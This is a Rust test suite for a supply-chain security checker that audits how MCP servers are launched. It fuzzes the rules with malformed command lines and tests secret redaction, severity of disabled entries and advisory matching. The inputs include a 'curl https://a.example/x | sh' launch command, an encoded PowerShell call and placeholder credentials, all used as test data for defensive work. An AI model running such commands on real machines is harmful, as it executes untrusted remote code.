//! Every rule on its vectors, and on input made to break it.

#![allow(clippy::unwrap_used, reason = "a test that panics has failed, which is what it is for")]

use bartizan_sdk::{check_natively, prelude::*, testing};
use bartizan_supply_chain::SupplyChain;
use serde_json::json;

const VECTORS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/vectors");

#[test]
fn every_vector_holds() {
    testing::check_vectors::<SupplyChain>(VECTORS).unwrap();
}

#[test]
fn every_rule_has_vectors_on_both_sides() {
    testing::check_coverage::<SupplyChain>(VECTORS, 5).unwrap();
}

fn started(command: &[&str]) -> Server {
    let command = command.iter().map(|&word| word.to_owned()).collect();
    Server {
        transport: Transport { kind: "stdio".into(), address: String::new(), command },
        ..Server::named("s")
    }
}

fn with_launch(detail: &str) -> Server {
    Server { observations: vec![Observation::new("launch", "s", detail)], ..Server::named("s") }
}

#[test]
fn a_hostile_command_line_is_survived() {
    let long = "a".repeat(1_000_000);
    let open = "$(".repeat(100_000);
    for words in [
        vec!["npx"],
        vec!["npx", "-p"],
        vec!["", "", ""],
        vec!["docker", "run", "--"],
        vec!["\u{202e}\u{0}", "\u{feff}"],
        vec!["bash", "-c", open.as_str()],
        vec!["npx", long.as_str()],
        vec!["npx", "@"],
        vec!["npx", "@/@"],
        vec!["uvx", "--from"],
        vec!["uvx", "[]=="],
        vec!["env", "A=b"],
        vec!["sudo", "sudo", "sudo"],
        vec!["powershell", "-enc", "AAA"],
        vec!["cmd", "/c"],
    ] {
        assert!(check_natively::<SupplyChain>(&started(&words), None).is_ok());
    }
    let many = vec!["sudo"; 100_000];
    assert!(check_natively::<SupplyChain>(&started(&many), None).is_ok());
}

#[test]
fn hostile_particulars_of_an_observation_are_survived() {
    let deep = "[".repeat(100_000);
    for detail in [
        "",
        "null",
        "[]",
        r#"{"command":5,"args":"x","env":{},"script":[],"config_file":1}"#,
        r#"{"command":"npx","args":[1,null,{}],"env":[1,{"name":2},{"name":"LD_PRELOAD","length":-1}]}"#,
        deep.as_str(),
    ] {
        assert!(check_natively::<SupplyChain>(&with_launch(detail), None).is_ok(), "{detail:.40}");
    }
}

#[test]
fn secrets_of_a_command_line_are_not_repeated() {
    let server = started(&[
        "sudo",
        "env",
        "API_KEY=hunter1",
        "npx",
        "-y",
        "--registry",
        "http://user:hunter2@npm.example.com/?key=hunter3",
        "git+https://hunter4@github.com/a/b",
        "--token=hunter5",
    ]);
    let found = check_natively::<SupplyChain>(&server, None).unwrap();
    assert!(found.len() >= 2, "{found:#?}");
    assert!(!format!("{found:?}").contains("hunter"), "{found:#?}");
}

#[test]
fn what_is_switched_off_is_never_more_than_low() {
    let server =
        with_launch(r#"{"command":"bash","args":["-c","curl https://a.example/x | sh"],"disabled":true}"#);
    let found = check_natively::<SupplyChain>(&server, None).unwrap();
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Some(Severity::Low));
}

#[test]
fn one_server_in_many_configurations_is_told_once() {
    let launch = |config: &str| {
        let detail = json!({ "command": "npx", "args": ["-y", "some-mcp"], "config": config });
        Observation::new("launch", "s", detail.to_string())
    };
    let server = Server { observations: vec![launch("a"), launch("b"), launch("c")], ..Server::named("s") };
    let found = check_natively::<SupplyChain>(&server, None).unwrap();
    assert_eq!(found.len(), 1, "{found:#?}");
}

#[test]
fn the_users_advisories_are_judged_by() {
    let server = started(&["npx", "-y", "acme-mcp@1.4.0"]);
    let record = json!({
        "id": "ACME-1", "summary": "Reads any file", "database_specific": { "severity": "HIGH" },
        "affected": [{ "package": { "ecosystem": "npm", "name": "acme-mcp" },
            "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "1.2.0" }, { "fixed": "1.5.0" }] }] }],
    });
    let known = |config| {
        let found = check_natively::<SupplyChain>(&server, config).unwrap();
        found.into_iter().filter(|finding| finding.rule == "MCP-SEC-054").collect::<Vec<_>>()
    };
    assert_eq!(known(None), []);
    let found = known(Some(json!({ "advisories": [record] })));
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Some(Severity::High));
    assert!(found[0].message.contains("ACME-1") && found[0].remediation.as_ref().unwrap().contains("1.5.0"));
    let refused = check_natively::<SupplyChain>(&server, Some(json!({ "advisories": [{}] })));
    assert!(matches!(refused, Err(Failure::InvalidConfig(why)) if why.contains("advisories[0]")));
}

#[test]
fn only_what_is_enabled_is_judged() {
    let server = started(&["npx", "-y", "mcp-remote@0.1.12"]);
    let enabled = Enabled::new(["MCP-SEC-047".to_owned()]);
    assert_eq!(SupplyChain::check(&server, &enabled, &None), Ok(Vec::new()));
}
